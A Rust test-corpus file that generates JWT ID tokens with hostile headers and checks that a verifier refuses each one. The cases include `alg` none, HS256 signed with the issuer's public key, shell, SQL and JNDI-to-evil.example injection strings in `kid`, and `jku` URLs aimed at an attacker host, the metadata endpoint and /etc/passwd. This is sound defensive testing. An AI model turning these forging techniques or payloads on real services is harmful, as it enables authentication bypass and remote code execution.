//! What a sender writes into the header in the hope that somebody obeys it.

use serde_json::{Value, json};

use super::case::{Corpus, Draft, Offered, gone};
use super::keys::{KEYS, Scheme, ed25519_jwk};

const ALGORITHM: &str = "TOKEN_ALGORITHM_NOT_ALLOWED";
const HEADER: &str = "TOKEN_HEADER_NOT_ALLOWED";
const UNKNOWN: &str = "TOKEN_KEY_UNKNOWN";

pub(crate) fn add(corpus: &mut Corpus) {
    unsigned(corpus);
    algorithms(corpus);
    types(corpus);
    key_ids(corpus);
    obeyed_members(corpus);
}

fn unsigned(corpus: &mut Corpus) {
    let corpus = corpus.class("header-alg-none", Offered::IdToken);
    let none = |name: &str| Draft::id_token().algorithm(name, Scheme::Bytes(Vec::new()));
    corpus.refuse("none", "`alg` none, no signature", none("none").sign(), "TOKEN_UNSIGNED");
    corpus.refuse(
        "emulator",
        "as the Auth emulator mints it, without `kid`",
        none("none").header("kid", gone()).sign(),
        "TOKEN_UNSIGNED",
    );
    corpus.refuse(
        "with_signature",
        "`alg` none over a good signature",
        Draft::id_token().header("alg", "none").sign(),
        "TOKEN_UNSIGNED",
    );
    for name in
        ["None", "NONE", "nOnE", "none ", " none", "none\u{0}", "nonе", "null", "", "undefined", "false", "0"]
    {
        let how = format!("`alg` {name:?}, no signature");
        corpus.refuse(&format!("spelled_{name:?}"), &how, none(name).sign(), ALGORITHM);
    }
    corpus.refuse(
        "rs256_unsigned",
        "`alg` RS256, no signature",
        none("RS256").sign(),
        "TOKEN_SIGNATURE_INVALID",
    );
}

fn algorithms(corpus: &mut Corpus) {
    let corpus = corpus.class("header-alg", Offered::IdToken);
    signed_with_the_public_key(corpus);
    signed_by_other_algorithms(corpus);
    named_otherwise(corpus);
}

/// RFC 8725, section 2.1: who takes the algorithm from the token takes the issuer's public key for a secret.
fn signed_with_the_public_key(corpus: &mut Corpus) {
    let key = &KEYS.id_token;
    let secrets = [
        ("pem", key.public_pem().into_bytes()),
        ("pem_trimmed", key.public_pem().trim().as_bytes().to_vec()),
        ("der", key.public_der()),
        ("certificate", key.certificate().into_bytes()),
        ("jwk", key.jwk().to_string().into_bytes()),
        ("modulus", key.modulus().to_bytes_be()),
        ("kid", key.id().as_bytes().to_vec()),
        ("empty", Vec::new()),
        ("word", b"secret".to_vec()),
    ];
    for (name, secret) in secrets {
        let how = format!("HS256 with the issuer's public key as the secret: {name}");
        let token = Draft::id_token().algorithm("HS256", Scheme::Hs256(secret));
        corpus.refuse(&format!("hs256_{name}"), &how, token.sign(), ALGORITHM);
        let how = format!("the same, with `alg` RS256: {name}");
        corpus.refuse(
            &format!("hs256_{name}_as_rs256"),
            &how,
            token.header("alg", "RS256").sign(),
            "TOKEN_SIGNATURE_INVALID",
        );
    }
}

fn signed_by_other_algorithms(corpus: &mut Corpus) {
    let pem = KEYS.id_token.public_pem().into_bytes();
    for (name, scheme) in [
        ("HS384", Scheme::Hs384(pem.clone())),
        ("HS512", Scheme::Hs512(pem)),
        ("RS384", Scheme::Rs384),
        ("RS512", Scheme::Rs512),
        ("PS256", Scheme::Ps256),
        ("PS384", Scheme::Ps384),
        ("PS512", Scheme::Ps512),
        ("ES256", Scheme::Es256),
        ("EdDSA", Scheme::Ed25519),
        ("Ed25519", Scheme::Ed25519),
    ] {
        let token = Draft::id_token().algorithm(name, scheme);
        corpus.refuse(
            name,
            "really signed so, with the key that `kid` names where it can",
            token.clone().sign(),
            ALGORITHM,
        );
        let how = "the same signature under `alg` RS256";
        corpus.refuse(
            &format!("{name}_as_RS256"),
            how,
            token.header("alg", "RS256").sign(),
            "TOKEN_SIGNATURE_INVALID",
        );
    }
}

fn named_otherwise(corpus: &mut Corpus) {
    for name in [
        "rs256",
        "Rs256",
        "RS256 ",
        " RS256",
        "RS256\n",
        "RS256\u{0}",
        "RS-256",
        "RS1",
        "RSA",
        "SHA256withRSA",
        "RSA-OAEP",
        "RSA1_5",
        "dir",
        "A128KW",
        "ES384",
        "ES512",
        "ES256K",
        "RS256,none",
        "ＲＳ２５６",
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    ] {
        let how = format!("`alg` {name:?} over an RS256 signature");
        corpus.refuse(
            &format!("spelled_{name:?}"),
            &how,
            Draft::id_token().header("alg", name).sign(),
            ALGORITHM,
        );
    }
    for value in [Value::Null, json!(256), json!(true), json!(["RS256"]), json!({"RS256": true}), json!([])] {
        let how = format!("`alg` {value}");
        corpus.refuse(
            &format!("typed_{value}"),
            &how,
            Draft::id_token().header("alg", value).sign(),
            ALGORITHM,
        );
    }
    corpus.refuse("missing", "no `alg`", Draft::id_token().header("alg", gone()).sign(), ALGORITHM);
    corpus.refuse(
        "other_case_name",
        "`Alg` in the place of `alg`",
        Draft::id_token().header("alg", gone()).header("Alg", "RS256").sign(),
        ALGORITHM,
    );
}

fn types(corpus: &mut Corpus) {
    let corpus = corpus.class("header-typ", Offered::IdToken);
    for value in [
        json!("jwt"),
        json!("Jwt"),
        json!("JWT "),
        json!("JWS"),
        json!("JOSE"),
        json!("at+jwt"),
        json!("application/jwt"),
        json!("dpop+jwt"),
        json!("secevent+jwt"),
        json!("logout+jwt"),
        json!("firegate-exchanged+jwt"),
        json!(""),
        Value::Null,
        json!(1),
        json!(["JWT"]),
        json!({}),
        json!(true),
    ] {
        let how = format!("`typ` {value}");
        corpus.refuse(
            &value.to_string(),
            &how,
            Draft::id_token().header("typ", value.clone()).sign(),
            HEADER,
        );
    }
}

fn key_ids(corpus: &mut Corpus) {
    let corpus = corpus.class("header-kid", Offered::IdToken);
    for value in
        [json!(""), Value::Null, json!(0), json!(1), json!([KEYS.id_token.id()]), json!({}), json!(true)]
    {
        let how = format!("`kid` {value}");
        let name = if value.is_array() { "array".to_owned() } else { value.to_string() };
        corpus.refuse(&format!("typed_{name}"), &how, Draft::id_token().header("kid", value).sign(), HEADER);
    }
    corpus.refuse("missing", "no `kid`", Draft::id_token().header("kid", gone()).sign(), HEADER);
    let id = KEYS.id_token.id();
    for (name, key_id) in [
        ("path_traversal", "../../../../../../dev/null".to_owned()),
        ("path_absolute", "/dev/null".to_owned()),
        ("url", "https://evil.example/keys".to_owned()),
        ("file_url", "file:///dev/null".to_owned()),
        ("sql", "' UNION SELECT 'secret' -- ".to_owned()),
        ("shell", "$(touch /tmp/x)|`id`".to_owned()),
        ("template", "${jndi:ldap://evil.example/x}".to_owned()),
        ("control_characters", "a\r\nSet-Cookie: x=1\u{0}\u{7f}".to_owned()),
        ("terminal_escape", "\u{1b}[2J\u{1b}]0;x\u{7}".to_owned()),
        ("bidi", "\u{202e}abc".to_owned()),
        ("prototype", "__proto__".to_owned()),
        ("constructor", "constructor".to_owned()),
        ("long", "k".repeat(8 * 1024)),
        ("upper_case", id.to_uppercase()),
        ("space_before", format!(" {id}")),
        ("space_after", format!("{id} ")),
        ("nul_after", format!("{id}\u{0}")),
        ("prefix", id[..39].to_owned()),
        ("extended", format!("{id}0")),
        ("list", format!("{id},{}", KEYS.id_token_next.id())),
        ("session_cookies_key", KEYS.session_cookie.id().to_owned()),
        ("google_key", KEYS.google.id().to_owned()),
        ("app_check_key", KEYS.app_check.id().to_owned()),
        ("firegates_key", KEYS.firegate.key_id().to_owned()),
        ("strangers_key", KEYS.stranger.id().to_owned()),
    ] {
        let how = format!("`kid` {:?} over a good signature", key_id.chars().take(60).collect::<String>());
        corpus.refuse(name, &how, Draft::id_token().header("kid", key_id).sign(), UNKNOWN);
    }
    corpus.refuse(
        "other_key_of_the_issuer",
        "the issuer's other `kid`",
        Draft::id_token().header("kid", KEYS.id_token_next.id()).sign(),
        "TOKEN_SIGNATURE_INVALID",
    );
    corpus.refuse(
        "in_the_payload",
        "`kid` as a claim and not in the header",
        Draft::id_token().header("kid", gone()).claim("kid", id).sign(),
        HEADER,
    );
}

fn obeyed_members(corpus: &mut Corpus) {
    let corpus = corpus.class("header-obeyed", Offered::IdToken);
    let stranger = &KEYS.stranger;
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("crit", json!(["x"])),
        ("crit", json!("exp")),
        ("crit", Value::Null),
        ("crit", json!(["alg"])),
        ("b64", json!(true)),
        ("b64", json!(false)),
        ("b64", Value::Null),
        ("zip", json!("DEF")),
        ("zip", json!("GZIP")),
        ("zip", Value::Null),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("https://www.googleapis.com@evil.example/")),
        ("jku", json!("http://169.254.169.254/")),
        ("jku", json!("file:///etc/passwd")),
        ("jku", json!(1)),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5u", Value::Null),
        ("jwk", ed25519_jwk()),
        ("jwk", Value::Null),
        ("jwk", json!({"kty": "oct", "k": "c2VjcmV0"})),
        ("x5c", json!([])),
        ("x5c", json!("x")),
    ] {
        let how = format!("with {name} {value}");
        let place =
            if name == "jwk" && value["kty"] == "OKP" { "ed25519".to_owned() } else { value.to_string() };
        corpus.refuse(&format!("{name}={place}"), &how, Draft::id_token().header(name, value).sign(), HEADER);
    }
    let forged = || Draft::id_token().secretly_signed_by(stranger);
    corpus.refuse(
        "embedded_jwk",
        "signed with the key that it brings along as `jwk`",
        forged().header("jwk", stranger.jwk()).sign(),
        HEADER,
    );
    corpus.refuse(
        "embedded_jwk_with_its_kid",
        "the same, with that key's `kid`",
        forged().header("jwk", stranger.jwk()).header("kid", stranger.id()).sign(),
        HEADER,
    );
    corpus.refuse(
        "embedded_certificate",
        "signed with the key of the certificate that it brings along as `x5c`",
        {
            let lines = stranger.certificate();
            let der = lines.lines().filter(|line| !line.starts_with("-----")).collect::<String>();
            forged().header("x5c", json!([der])).sign()
        },
        HEADER,
    );
    corpus.refuse(
        "unencoded_payload",
        "RFC 7797: `b64` false, marked critical",
        Draft::id_token().header("b64", false).header("crit", json!(["b64"])).sign(),
        HEADER,
    );
}
